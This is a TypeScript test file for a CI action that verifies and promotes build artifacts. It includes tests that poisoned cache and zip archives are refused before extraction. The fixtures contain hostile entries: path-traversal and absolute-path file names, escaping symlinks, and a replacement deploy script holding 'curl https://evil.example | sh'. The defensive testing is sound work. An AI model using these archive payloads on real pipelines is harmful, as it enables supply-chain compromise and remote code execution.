      try {
        const deploy = await promote(build.runId, {
          environment: 'dev',
          'expected-digest': build.digest,
          name: 'shop-sealed'
        })
        expect(deploy.code).toBe(1)
        expect(deploy.stdout).toMatch(
          /could not be fetched and checked: name: the artifact "shop-sealed" \(id \d+ in this workflow run\) arrived with other bytes than were uploaded: its zip does not hash to sha256:[0-9a-f]{64}, the digest recorded at upload\. The download was cut short/
        )
        expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
      } finally {
        results.truncateDownloads(false)
      }
    })

    it('a run id that does not exist, and a token without actions: read', async () => {
      const build = await buildRun('<h1>ids</h1>\n')
      const unknown = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': build.digest,
        name: 'shop-sealed',
        'run-id': '999999999'
      })
      expect(unknown.code).toBe(1)
      expect(unknown.stdout).toMatch(/could not be fetched and checked: run-id: .*999999999/)
      const denied = await promote(nextRun++, {
        environment: 'dev',
        'expected-digest': build.digest,
        name: 'shop-sealed',
        'run-id': String(build.runId),
        'github-token': 'ghs_no-actions'
      })
      expect(denied.code).toBe(1)
      expect(denied.stdout).toMatch(
        /could not be fetched and checked: github-token: .*actions: read/
      )
    })
  })

  describe('a poisoned carrier: nothing from it is written before it is verified', () => {
    const DEPLOY_SH = '#!/bin/sh\necho deploying "$1"\n'

    /** The deploy job's checkout: its deploy.sh is what a poisoned archive aims at. */
    function deployWorkspace(): string {
      return writeTree(tempDir('workspace-'), { 'deploy.sh': DEPLOY_SH })
    }

    /** Every file under a directory, by absolute path. */
    function filesUnder(dir: string): string[] {
      return (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[])
        .filter((e) => !e.isDirectory())
        .map((e) => path.join(e.parentPath, e.name))
    }

    /**
     * The sealed files' directory inside the archive, as the archive names it (relative to
     * the workspace that saved it), found from a file every build of SITE has.
     */
    function sealedRootIn(entries: readonly TarEntrySpec[]): string {
      const css = entries.find((e) => e.name.endsWith('/assets/app.js'))
      if (!css) throw new Error(`no assets/app.js among ${entries.map((e) => e.name).join(', ')}`)
      return css.name.slice(0, -'/assets/app.js'.length)
    }

    /** Adds to the archive what an attacker with write access to the cache adds. */
    async function poisonCache(digest: Digest, workspace: string, outside: string): Promise<void> {
      await results.replaceCacheBlob(`artifact-seal-files-sha256-${digest.slice(7)}`, (entries) => {
        const root = sealedRootIn(entries)
        return [
          ...entries,
          // tar runs with -P in the workspace: `..` climbs out of it, into the deploy job's checkout.
          {
            name: `../${path.basename(workspace)}/deploy.sh`,
            content: Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
            mode: 0o755
          },
          {
            name: path.join(outside, 'pwned'),
            content: Buffer.from('written at an absolute path\n')
          },
          { name: `${root}/assets/escape`, type: 'symlink', linkTarget: outside },
          { name: `${root}/assets/extra.js`, content: Buffer.from('steal()\n') }
        ]
      })
    }

    it(
      'a cache entry with `..`, an absolute path, a link out and an unlisted file: refused before extraction, ' +
        'the artifact the ledger names deployed instead',
      async () => {
        const build = await buildRun('<h1>poisoned cache, artifact whole</h1>\n')
        expect(
          (
            await promote(build.runId, {
              environment: 'dev',
              'expected-digest': build.digest,
              name: 'shop-sealed'
            })
          ).code
        ).toBe(0)
        const workspace = deployWorkspace()
        const outside = tempDir('outside-')
        await poisonCache(build.digest, workspace, outside)
        const before = new Set(filesUnder(runnerTemp))

        const deploy = await promote(
          nextRun++,
          { environment: 'dev', 'expected-digest': build.digest },
          runnerTemp,
          workspace
        )
        expect(fs.readFileSync(path.join(workspace, 'deploy.sh'), 'utf8')).toBe(DEPLOY_SH)
        expect(fs.readdirSync(outside)).toEqual([])
        expect(deploy.stdout).toMatch(
          /cache: refused the cache entry artifact-seal-files-sha256-[0-9a-f]{64} before extracting anything/
        )
        expect(deploy.stdout).toContain(
          `"../${path.basename(workspace)}/deploy.sh": a ".." segment`
        )
        expect(deploy.stdout).toContain(`"${path.join(outside, 'pwned')}": an absolute path`)
        expect(deploy.stdout).toMatch(/"[^"]*\/assets\/escape": a symbolic link/)
        expect(deploy.stdout).toMatch(/"[^"]*\/assets\/extra\.js": not in the sealed listing/)
        expect(deploy.stdout).toContain(
          `downloading the workflow artifact "shop-sealed" of run ${build.runId} that the ledger names`
        )
        expect(deploy.code).toBe(0)
        expect(deploy.outputs.promoted).toBe('true')
        expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
        // Nothing of the archive is left: what is new under the runner's temp directory is the
        // downloaded artifact (its bundle and the files handed out).
        const artifactDir = path.dirname(deploy.outputs.path as string)
        const added = filesUnder(runnerTemp).filter(
          (f) => !before.has(f) && !f.includes(`${path.sep}_runner_file_commands${path.sep}`)
        )
        expect(added.filter((f) => !f.startsWith(`${artifactDir}${path.sep}`))).toEqual([])
        expect(
          added
            .filter((f) => !f.startsWith(`${deploy.outputs.path}${path.sep}`))
            .map((f) => path.relative(artifactDir, f))
            .sort()
        ).toEqual(['seal/shop.intoto.json', 'seal/shop.modes.json', 'seal/shop.sha256'])
      }
    )

    it('the same entry with no artifact to fall back to: refused, nothing promoted, nothing left', async () => {
      const build = await buildRun('<h1>poisoned cache, no artifact</h1>\n')
      const workspace = deployWorkspace()
      const outside = tempDir('outside-')
      await poisonCache(build.digest, workspace, outside)
      const before = new Set(filesUnder(runnerTemp))

      const deploy = await promote(
        nextRun++,
        { environment: 'dev', 'expected-digest': build.digest },
        runnerTemp,
        workspace
      )
      expect(fs.readFileSync(path.join(workspace, 'deploy.sh'), 'utf8')).toBe(DEPLOY_SH)
      expect(fs.readdirSync(outside)).toEqual([])
      expect(deploy.code).toBe(1)
      expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
      expect(deploy.stdout).toMatch(
        /could not be fetched and checked: cache: the cache entry artifact-seal-files-sha256-[0-9a-f]{64} was refused before anything was extracted/
      )
      expect(
        filesUnder(runnerTemp).filter(
          (f) => !before.has(f) && !f.includes(`${path.sep}_runner_file_commands${path.sep}`)
        )
      ).toEqual([])
    })

    it(
      'a workflow artifact whose zip holds `../`, an absolute name or a link: refused before extraction, by ' +
        'promote and verify',
      async () => {
        const build = await buildRun('<h1>poisoned zip</h1>\n')
        const hosted = results.artifacts().find((a) => a.runId === build.runId)
        const honest = [...readZip(await results.artifactZip(hosted?.id as number))].map(
          ([name, content]) => ({ name, content })
        )
        const attacks: [string, { name: string; content?: Buffer; mode?: number }, RegExp][] = [
          [
            '`../`',
            { name: '../deploy.sh', content: Buffer.from('curl https://evil.example | sh\n') },
            /"\.\.\/deploy\.sh": a "\.\." segment/
          ],
          [
            'an absolute name',
            { name: '/tmp/pwned-by-zip', content: Buffer.from('x\n') },
            /"\/tmp\/pwned-by-zip": an absolute path/
          ],
          [
            'a link',
            { name: 'files/assets/escape', content: Buffer.from('/etc'), mode: 0o120777 },
            /"files\/assets\/escape": a symbolic link/
          ]
        ]
        for (const [what, attack, named] of attacks) {
          // Deleted and uploaded again under its name: the digest recorded at upload is the new zip's.
          await results.replaceArtifactZip(
            hosted?.id as number,
            writeZipEntries([...honest, attack]),
            { recordDigest: true }
          )
          const workspace = deployWorkspace()
          const temp = tempDir('runner-temp-')
          const deploy = await promote(
            build.runId,
            { environment: 'dev', 'expected-digest': build.digest, name: 'shop-sealed' },
            temp,
            workspace
          )
          expect([what, deploy.code]).toEqual([what, 1])
          expect(deploy.outputs).toMatchObject({ promoted: 'false', path: '' })
          expect(deploy.stdout).toMatch(
            /could not be fetched and checked: name: refused the artifact "shop-sealed" \(id \d+ in this workflow run\) before extracting anything/
          )
          expect(deploy.stdout).toMatch(named)
          expect(fs.readFileSync(path.join(workspace, 'deploy.sh'), 'utf8')).toBe(DEPLOY_SH)
          expect(fs.existsSync('/tmp/pwned-by-zip')).toBe(false)
          expect(
            filesUnder(temp).filter(
              (f) => !f.includes(`${path.sep}_runner_file_commands${path.sep}`)
            )
          ).toEqual([])

          const verify = await step(
            VERIFY,
            build.runId,
            'check',
            { name: 'shop-sealed', 'expected-digest': build.digest },
            workspace,
            temp
          )
          expect(verify.code).toBe(1)
          expect(verify.outputs).toEqual({})
          expect(verify.stdout).toMatch(named)
          expect(
            filesUnder(temp).filter(
              (f) => !f.includes(`${path.sep}_runner_file_commands${path.sep}`)
            )
          ).toEqual([])
        }
        // The honest zip again: it downloads, verifies and deploys as before.
        await results.replaceArtifactZip(hosted?.id as number, writeZipEntries(honest), {
          recordDigest: true
        })
        const deploy = await promote(build.runId, {
          environment: 'dev',
          'expected-digest': build.digest,
          name: 'shop-sealed'
        })
        expect(deploy.code).toBe(0)
        expect(shellTreeDigest(deploy.outputs.path as string)).toBe(build.digest)
      }
    )
  })

  describe('the contract gate with contracts carried in workflow artifacts', () => {
    const API = (version: string, properties: string) =>
      `openapi: 3.1.0\ninfo: { title: shop, version: ${version} }\npaths:\n  /orders/{id}:\n    get:\n      ` +
      `responses:\n        '200':\n` +
      ('          description: an order\n          content: { application/json: { schema: { type: object, ' +
        `required: [${properties.includes('total') ? 'id, total' : 'id'}], ` +
        `properties: { ${properties} } } } }\n`)

    /** A build run whose seal carries the contract, uploaded with the files. */
    async function contractBuild(version: string, properties: string) {
      const runId = nextRun++
      const workspace = writeTree(tempDir('workspace-'), {
        'site/index.html': `<h1>${version}</h1>\n`,
        'site/api/openapi.yaml': API(version, properties)
      })
      const seal = await step(
        SEAL,
        runId,
        'build',
        {
          'subject-path': 'site',
          'subject-name': 'shop',
          upload: 'true',
          contract: 'api/openapi.yaml'
        },
        workspace
      )
      expect(seal.code).toBe(0)
      return {
        runId,
        digest: seal.outputs.digest as Digest,
        contractDigest: seal.outputs['contract-digest'] as string
      }
    }

    it(
      'compares with the contract production runs, fetched from its workflow artifact when nothing kept it; ' +
        'approve-amendment records an approval one promotion uses',
      async () => {
        const shared = tempDir('contract-shared-')
        const ledger = path.join(shared, 'ledger.jsonl')
        const policy = path.join(shared, 'promotion.yml')
        fs.writeFileSync(
          policy,
          'environments:\n  dev: {}\n  production:\n    requires: [dev]\n    contract: { breaking: require-approval }\n'
        )
        await new FileLedger(ledger, 'ledger').init()
        const inputs = (build: { runId: number; digest: Digest }, environment: string) => ({
          ledger: `file:${ledger}`,
          policy,
          'github-token': github.token,
          environment,
          'expected-digest': build.digest,
          name: 'shop-sealed',
          'run-id': String(build.runId)
        })
        const job = async (
          build: { runId: number; digest: Digest },
          environment: string,
          extra: Record<string, string> = {}
        ) => {
          const all = { ...inputs(build, environment), ...extra }
          const runId = nextRun++
          const env = {
            ...results.runnerEnv({ runId, jobId: 'deploy', repository: REPO }),
            GITHUB_API_URL: github.url,
            RUNNER_TEMP: runnerTemp,
            GITHUB_ACTOR: 'release-bot'
          }
          const main = await runAction(PROMOTE, all, { env })
          if (main.code !== 0) return main
          expect((await runPost(POST, main, all, { env })).code).toBe(0)
          return main
        }
        const v1 = await contractBuild('1.0.0', 'id: { type: string }, total: { type: number }')
        const v2 = await contractBuild('1.1.0', 'id: { type: string }')
        for (const environment of ['dev', 'production'])
          expect((await job(v1, environment)).code).toBe(0)
        expect((await job(v2, 'dev')).code).toBe(0)
        // Nothing kept beside the ledger: the contract production runs comes from v1's workflow artifact.
        fs.rmSync(`${ledger}.contracts`, { recursive: true, force: true })

        const refused = await job(v2, 'production')
        expect(refused.code).toBe(1)
        expect(refused.stdout).toContain(`Downloaded "shop-sealed" and verified`)
        expect(refused.stdout).toMatch(/::error::.*GET \/orders\/\{id\}.*total/)
        expect(refused.outputs).toMatchObject({
          promoted: 'false',
          'contract-version': '1.1.0',
          'contract-digest': v2.contractDigest
        })
        expect(refused.summary).toContain('response-required-property-removed')

        const approve = await job(v2, 'production', {
          'approve-amendment': 'clients moved off total'
        })
        expect(approve.code).toBe(0)
        expect(approve.outputs).toMatchObject({
          promoted: 'false',
          'record-id': expect.stringMatching(/^\d+$/)
        })
        expect(approve.summary).toContain('Contract amendment approved for production')

        const through = await job(v2, 'production')
        expect(through.code).toBe(0)
        expect(through.stdout).toContain('Approved by release-bot')
        const records: LedgerEntry[] = []
        for await (const e of new FileLedger(ledger, 'ledger').entries({
          environment: 'production'
        }))
          records.push(e)
        expect(records.find((r) => r.outcome === 'pending')?.amendment?.approval).toBe(
          approve.outputs['record-id']
        )
      }
    )
  })
})
